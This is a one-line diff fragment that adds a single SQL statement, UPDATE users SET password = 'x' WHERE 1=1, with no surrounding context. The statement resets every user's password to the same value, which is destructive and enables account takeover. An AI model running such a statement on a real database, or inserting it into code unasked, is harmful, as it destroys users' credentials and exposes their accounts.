@@ -1,0 +1,1 @@
+UPDATE users SET password = 'x' WHERE 1=1
